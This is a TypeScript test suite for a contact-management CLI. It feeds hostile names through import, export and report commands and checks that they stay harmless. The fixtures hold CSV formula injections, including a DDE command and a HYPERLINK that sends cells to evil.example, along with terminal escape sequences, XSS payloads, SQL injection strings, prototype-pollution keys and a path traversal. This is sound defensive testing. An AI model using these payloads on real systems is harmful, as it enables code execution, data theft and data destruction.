import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { defused, visible } from '../../src/render/width.ts'
import { closeBook, openBook } from '../../src/store/book.ts'
import { kehu } from '../support/kehu.ts'
import { unzip } from '../support/unzip.ts'

const dir = mkdtempSync(join(tmpdir(), 'kehu-hostile-'))
afterAll(() => rmSync(dir, { recursive: true, force: true }))

const esc = '\u001b'
const formulas: [string, string][] = [
  ['a formula', '=1+1'],
  ['a command by DDE', `=cmd|' /C calc'!A0`],
  ['a link that sends cells away', '=HYPERLINK("http://evil.example/?"&A1,"看")'],
  ['an import of another sheet', '=IMPORTXML("http://evil.example","//a")'],
  ['a plus', '+1+cmd'],
  ['a minus', '-2+3+cmd'],
  ['an old Lotus function', '@SUM(1+1)'],
  ['a formula behind a tab', '\t=1+1'],
  ['a full-width formula', '＝1+1'],
  ['a formula that is guarded already', `'=1+1`],
]
const screens: [string, string][] = [
  ['an order to clear the screen', `甲${esc}[2J${esc}[H`],
  ['a new title for the window', `乙${esc}]0;owned\u0007`],
  ['a link that hides its address', `丙${esc}]8;;http://evil.example${esc}\\点${esc}]8;;${esc}\\`],
  ['an order in one byte (C1)', '丁\u009b31m\u009d0;x\u009c'],
  ['a device control string', `戊${esc}P1$r${esc}\\`],
  ['backspaces', '己\b\b\b假名'],
  ['a return over the line', '庚真名\r假名'],
  ['letters that run backwards', '辛\u202e名假'],
  ['an isolated direction', '壬\u2066x\u2069'],
  ['nothing to be seen', '癸\u200b\u200b丑'],
  ['a bell', '子\u0007'],
  ['text that hides itself', `寅${esc}[8m密`],
]
const pages: [string, string][] = [
  ['a script', '<script>alert(1)</script>'],
  ['a picture that fails', '<img src=x onerror=alert(1)>'],
  ['the end of an attribute', '"><svg onload=alert(1)>'],
  ['the end of a quoted attribute', `' onmouseover='alert(1)`],
  ['the end of the title', '</title><script>alert(1)</script>'],
  ['the end of a comment', '--><script>alert(1)</script><!--'],
  ['the end of character data', ']]><script/>'],
  ['an entity', '&lt;script&gt;alert(1)&lt;/script&gt;'],
  ['a template', '{{constructor.constructor("alert(1)")()}}'],
  ['a link in Markdown', '[看](javascript:alert(1))'],
]
const statements: [string, string][] = [
  ['a second statement', `'; drop table party; --`],
  ['a condition that always holds', `' or '1'='1`],
  ['a quoted name', `"; delete from party; --`],
  ['a union', `x' union select value from setting --`],
  ['wildcards', '%_%'],
  ['the end of a list', `Robert'); DROP TABLE customer;--`],
]
const names: [string, string][] = [
  ['the prototype of all', '__proto__'],
  ['a constructor', 'constructor'],
  ['a method of all', 'toString'],
  ['an own property', 'hasOwnProperty'],
]
const odd: [string, string][] = [
  ['a way out of the folder', '../../../../etc/passwd'],
  ['a device', 'CON'],
  ['a thousand marks on a letter', `e${'\u0301'.repeat(1000)}`],
  ['a family in one glyph', '👨‍👩‍👧‍👦'],
  ['a second card', '甲\nEND:VCARD\nBEGIN:VCARD\nFN:乙'],
  ['a name as long as a book', '长'.repeat(20_000)],
]
const all = [...formulas, ...screens, ...pages, ...statements, ...names, ...odd]

const quoted = (text: string): string => `"${text.replaceAll('"', '""')}"`
const out: Record<string, string> = {}
const stored = new Map<string, string>()

beforeAll(() => {
  kehu(dir, ['init', '-q'])
  const rows = all.map(([, text], n) => `${quoted(text)},139${String(n).padStart(8, '0')},${quoted(text)}`)
  writeFileSync(join(dir, 'a.csv'), `姓名,手机,备注\n${rows.join('\n')}\n`)
  const run = kehu(dir, ['import', 'a.csv', '--map', '备注=remark'])
  expect([0, 3], run.stderr).toContain(run.status)
  out['import'] = run.stdout + run.stderr
  for (const name of ['c.csv', 'c.xlsx', 'c.vcf', 'c.jsonl']) {
    const made = kehu(dir, ['export', 'customers', '-o', name])
    expect([0, 3], made.stderr).toContain(made.status)
  }
  for (const name of ['r.html', 'r.md']) expect(kehu(dir, ['report', 'directory', '-o', name]).status).toBe(0)
  out['html'] = readFileSync(join(dir, 'r.html'), 'utf8')
  out['csv'] = readFileSync(join(dir, 'c.csv'), 'utf8')
  out['vcf'] = readFileSync(join(dir, 'c.vcf'), 'utf8')
  out['table'] = kehu(dir, ['find', '1390000', '-n', '500', '--table']).stdout
  out['jsonl'] = readFileSync(join(dir, 'c.jsonl'), 'utf8')
  const book = openBook(join(dir, 'kehu.db'))
  const rowsOf = book.sqlite
    .prepare(
      `select c.canonical, p.name from contact_point c join party p on p.id = c.party_id where c.type = 'mobile'`,
    )
    .raw()
    .all() as [string, string][]
  for (const [phone, name] of rowsOf) stored.set(phone, name)
  closeBook(book)
})

const nameOf = (text: string): string | undefined => {
  const n = all.findIndex(([, one]) => one === text)
  return [...stored].find(([phone]) => phone.endsWith(`139${String(n).padStart(8, '0')}`))?.[1]
}

/** What a spreadsheet would run. */
const runs = /^[=+\-@\t\r＝＋－＠]/

describe('a cell that a spreadsheet would run', () => {
  it.each(formulas)('%s leaves as text, in CSV and workbooks', (_what, text) => {
    const name = nameOf(text)
    if (name === undefined) return expect(out['import']).toMatch(/rejected|rejects|invalid/)
    const cells = out['csv']!.split('\n').flatMap((line) => line.split(',').map((cell) => cell.replace(/^"/, '')))
    expect(cells.filter((cell) => runs.test(cell) && !/^-?\d+(\.\d+)?$/.test(cell))).toEqual([])
  })

  it('a workbook holds no formula at all, and no outside link', () => {
    const parts = unzip(readFileSync(join(dir, 'c.xlsx')))
    const sheets = [...parts].filter(([name]) => name.endsWith('.xml')).map(([, text]) => text)
    expect(sheets.filter((text) => /<f[ >]|<hyperlink|externalLink|ddeLink/.test(text))).toEqual([])
  })
})

describe('a cell that speaks to the terminal', () => {
  it.each(screens)('%s is shown and does nothing', (_what, text) => {
    const active = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069\u200b]/
    expect(out['table']).not.toMatch(active)
    expect(out['import']).not.toMatch(active)
    expect(visible(text)).not.toMatch(active)
    expect(defused(`${text}\n`).replace(/\u001b\[[0-9;]*m/g, '')).not.toMatch(active)
  })

  it('our own colours and progress pass', () => {
    expect(defused(`${esc}[1m甲${esc}[22m\n\r${esc}[K`)).toBe(`${esc}[1m甲${esc}[22m\n\r${esc}[K`)
  })
})

describe('a cell that is a piece of a page', () => {
  it.each(pages)('%s is text in a report', (_what, text) => {
    const html = out['html']!
    const body = html.replace(/<script[^>]*>\s*\/\* kehu[\s\S]*?<\/script>/g, '')
    expect(body).not.toMatch(/<script>alert|<svg onload|<img src=x|<script\/>/)
    expect(body).not.toMatch(/<[a-z][^>]*\son\w+\s*=/i)
    expect(body).not.toContain('href="javascript:')
    const name = nameOf(text)
    if (name === undefined) return
    const escaped = (name.includes('<') || name.includes('&')) && html.includes(name)
    expect(escaped).toBe(false)
  })
})

describe('a cell that is a piece of SQL', () => {
  it.each(statements)('%s is looked for, and harms nothing', (_what, text) => {
    const run = kehu(dir, ['find', text])
    expect([0, 7], run.stderr).toContain(run.status)
    const book = openBook(join(dir, 'kehu.db'))
    expect(book.sqlite.prepare('select count(*) from party').pluck().get()).toBeGreaterThan(30)
    closeBook(book)
  })
})

describe('a name that means something to JavaScript', () => {
  it.each(names)('%s is a name', (_what, text) => {
    const rows = out['jsonl']!.trim()
      .split('\n')
      .map((line) => JSON.parse(line) as object)
    expect(rows.some((row) => Object.values(row).includes(text))).toBe(true)
    expect(({} as Record<string, unknown>)['polluted']).toBeUndefined()
    expect(kehu(dir, ['show', text, '--json']).status).not.toBe(70)
  })
})

describe('a cell that is odd', () => {
  it.each(odd)('%s ends in no fault', (_what, text) => {
    const run = kehu(dir, ['find', text.slice(0, 2000)])
    expect([0, 7], run.stderr).toContain(run.status)
    expect(out['vcf']!.match(/^BEGIN:VCARD$/gm)?.length).toBe(out['vcf']!.match(/^END:VCARD$/gm)?.length)
    expect(out['vcf']).not.toMatch(/^FN:乙$/m)
  })
})

it('the book is whole after all of it', () => {
  expect(kehu(dir, ['doctor']).status).toBe(0)
})
